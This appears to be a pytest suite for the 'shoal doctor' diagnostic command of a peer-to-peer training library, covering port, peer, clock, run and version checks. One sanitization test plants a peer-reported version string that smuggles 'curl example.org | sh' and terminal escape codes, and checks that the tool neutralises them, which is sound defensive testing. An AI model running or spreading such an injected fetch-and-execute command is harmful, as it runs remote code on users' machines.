"""``shoal doctor``: what it finds, its advice, and its exit code."""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

import shoal
from shoal.cli.doctor.command import _row
from shoal.cli.doctor.finding import Check, Level
from shoal.cli.doctor.peer import _clock, _release, asked_about, look_at_peer
from shoal.dht.created import CreatedNode
from shoal.dht.records import get_dht_time
from shoal.p2p import greeting
from shoal.p2p.identity import Identity
from shoal.swarm.protocol.messages import Terms
from tests.cli.test_command import shoal_command
from tests.optim.closed_runs import Club

MACHINE = ["python", "torch", "port", "addresses", "descriptors", "disk", "congestion control"]


def doctor(*arguments: str) -> tuple[int, dict[str, dict[str, Any]]]:
    """The exit code, and what it has found, by name."""
    done = shoal_command("doctor", *arguments, "--json")
    assert done.stdout, done.stderr
    report = json.loads(done.stdout)
    assert report["well"] == (done.returncode == 0)
    return done.returncode, {one["name"]: one for one in report["findings"]}


def look(address: object, run_id: str = "", membership: str | None = None, identity: str | None = None) -> list[Check]:
    """What it finds at an address."""
    asked = asked_about(str(address), run_id, membership, Path(identity) if identity else None)
    assert asked is not None

    async def all_of_it() -> list[Check]:
        return [finding async for finding in look_at_peer(asked)]

    return asyncio.run(all_of_it())


def of(findings: list[Check], name: str) -> Check:
    return next(finding for finding in findings if finding.name == name)


@pytest.mark.long
def test_this_machine_alone() -> None:
    done = shoal_command("doctor")
    assert done.returncode == 0, done.stdout
    assert "Ready" in done.stdout
    assert "shoal doctor ADDRESS" in done.stdout
    code, found = doctor()
    assert code == 0
    assert list(found) == MACHINE
    assert found["torch"]["facts"]["capability"]


@pytest.mark.long
def test_a_port_that_is_taken_stops_it() -> None:
    with socket.create_server(("", 0)) as server:
        port = server.getsockname()[1]
        code, found = doctor("--port", str(port))
    assert code == 1
    assert found["port"]["level"] == "stops"
    assert str(port) in found["port"]["found"]
    assert "choose another port" in found["port"]["advice"]


def test_a_peer_and_its_run(dht: shoal.DHT) -> None:
    (address,) = dht.get_visible_maddrs()
    averager = shoal.DecentralizedAverager([], dht, start=True, prefix="r")
    assert averager._engine.swarm is not None
    code, found = doctor(str(address), "--run", "r")
    assert code == 0
    assert list(found) == [*MACHINE, "peer", "line", "clock", "run", "terms"]
    assert {one["level"] for name, one in found.items() if name not in MACHINE} == {"well"}
    assert found["line"]["facts"]["bits_per_second"] > 1e6
    assert found["run"]["facts"]["members"] == [{"peer": str(dht.peer_id), "role": "node", "answer": "hello"}]
    assert found["terms"]["facts"]["options"] == averager._engine.swarm.peer.terms.options
    assert averager._engine.swarm.peer.view.others() == [], "it has joined nothing"
    averager.shutdown()


def test_a_run_that_nobody_is_in(dht: shoal.DHT) -> None:
    found = look(dht.get_visible_maddrs()[0], "ru")
    assert of(found, "run").level is Level.MIND
    assert "letter by letter" in of(found, "run").advice


def test_members_that_do_not_go_by_the_same_terms(dht: shoal.DHT) -> None:
    with shoal.DHT(dht.get_visible_maddrs(), start=True) as other:
        one = shoal.DecentralizedAverager([], dht, start=True, prefix="r")
        two = shoal.DecentralizedAverager([], other, start=True, prefix="r")
        assert two._engine.swarm is not None
        two._engine.swarm.peer.terms = Terms({"target_batch_size": "3"}, two._engine.swarm.peer.terms.schema)
        found = of(look(dht.get_visible_maddrs()[0], "r"), "terms")
        assert found.level is Level.MIND
        assert "not all members agree" in found.found
        two.shutdown()
        one.shutdown()


def test_what_others_say_gives_no_orders_to_a_terminal_or_to_who_reads_it() -> None:
    with Path(os.devnull).open("w") as nowhere:
        console = Console(file=nowhere, force_terminal=True, record=True, no_color=True)
        console.print(_row(Check("terms", Level.WELL, "all have lr=\x1b[2J\x1b]0;title\x07, too", "\x9b2J")))
        text = console.export_text()
    assert "[2J" in text
    assert not {"\x1b", "\x07", "\x9b"} & set(text)
    attack = "9.9 && curl example.org | sh"
    found = _release(Counter({attack: 1, "0.9.0": 1, "0.10.0": 5}))
    assert (found.level, found.advice) == (Level.MIND, "pip install 'shoal==0.10.0'")
    assert attack not in _release(Counter([attack])).advice
    assert len(_release(Counter(f"{number}.x" for number in range(1000))).found) < 200


def test_a_member_that_is_gone_is_named(dht: shoal.DHT) -> None:
    averager = shoal.DecentralizedAverager([], dht, start=True, prefix="r")
    assert averager._engine.swarm is not None
    dht.node.stop_serving(averager._engine.swarm.service)
    found = of(look(dht.get_visible_maddrs()[0], "r"), "run")
    assert found.level is Level.STOPS
    assert str(dht.peer_id) in found.found
    averager.shutdown()


def test_a_closed_run(tmp_path: Path) -> None:
    club = Club(tmp_path)
    (file, peer), (mine, me) = club.identity("trainer"), club.identity("me")
    with shoal.DHT(start=True, identity_path=file) as dht:
        averager = shoal.DecentralizedAverager([], dht, start=True, prefix=club.run_id, membership=club.admit(peer))
        (address,) = dht.get_visible_maddrs()
        without = of(look(address, club.run_id, None, mine), "membership")
        assert without.level is Level.STOPS
        assert f"shoal keys admit {club.run_id} {me}" in without.found
        of(look(address, club.run_id, club.admit(me), mine), "terms")
        averager.shutdown()


@pytest.mark.parametrize(
    ("host", "peer", "advice"),
    [
        ("/ip4/127.0.0.1/tcp/9", None, "leads to this machine only"),
        ("", Identity(bytes(range(32))).peer_id, "of an earlier start"),
    ],
)
def test_a_peer_that_cannot_be_dialled(dht: shoal.DHT, host: str, peer: object, advice: str) -> None:
    there = dht.get_visible_maddrs()[0].with_peer(None)
    (found,) = look(f"{host or there}/p2p/{peer or dht.peer_id}")
    assert found.level is Level.STOPS
    assert advice in found.advice


def test_an_identity_that_is_in_use(dht: shoal.DHT, tmp_path: Path) -> None:
    """As of who asks why the trainer that runs meets nobody."""
    mine = str(tmp_path / "me.key")
    with shoal.DHT(dht.get_visible_maddrs(), start=True, identity_path=mine):
        (found,) = look(dht.get_visible_maddrs()[0], identity=mine)
    assert found.level is Level.STOPS
    assert "another process with the same identity" in found.found
    assert found.advice.startswith("end the process that uses the same --identity")


@pytest.mark.long
def test_a_peer_of_another_version(dht: shoal.DHT, monkeypatch: pytest.MonkeyPatch) -> None:
    (address,) = dht.get_visible_maddrs()
    monkeypatch.setattr(greeting, "VERSION", greeting.VERSION + 1)
    code, found = doctor(str(address))
    assert code == 1
    assert "version 3" in found["peer"]["found"]
    assert "the same version of Shoal" in found["peer"]["advice"]


@pytest.mark.parametrize(
    ("ahead", "level", "says"),
    [
        (0.0, Level.WELL, "the same"),
        (7.0, Level.WELL, "at least 5 s ahead of"),
        (40.0, Level.MIND, "at least 30 s ahead of"),
        (-40.0, Level.MIND, "at least 30 s behind"),
        (100.0, Level.STOPS, "at least 60 s ahead of"),
        (-86400.0, Level.STOPS, "at least 3600 s behind"),
    ],
)
def test_a_clock_that_differs(ahead: float, level: Level, says: str) -> None:
    async def compare() -> Check:
        other = await CreatedNode.create(clock=lambda: get_dht_time() + ahead)
        dht = await CreatedNode.create(other.visible_addresses(), client_mode=True)
        try:
            return await _clock(dht, other.peer_id)
        finally:
            await dht.shutdown()
            await other.shutdown()

    found = asyncio.run(compare())
    assert found.level is level
    assert says in found.found
    assert bool(found.advice) == (level is not Level.WELL)


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("/ip4/127.0.0.1/tcp/9",), "must end in /p2p/"),
        (("nonsense",), "nonsense"),
        (("--run", "r"), "give the ADDRESS"),
    ],
)
def test_what_makes_no_sense_is_one_clear_error(arguments: tuple[str, ...], says: str) -> None:
    done: subprocess.CompletedProcess[str] = shoal_command("doctor", *arguments)
    assert done.returncode == 2
    assert says in " ".join(done.stderr.replace("│", "").split())
    assert "Traceback" not in done.stderr


def test_help_begins_with_what_to_do_first() -> None:
    text = " ".join(shoal_command("--help").stdout.split())
    assert (
        text.index("shoal demo")
        < text.index("shoal node")
        < text.index("shoal doctor ADDRESS")
        < text.index("Commands")
    )
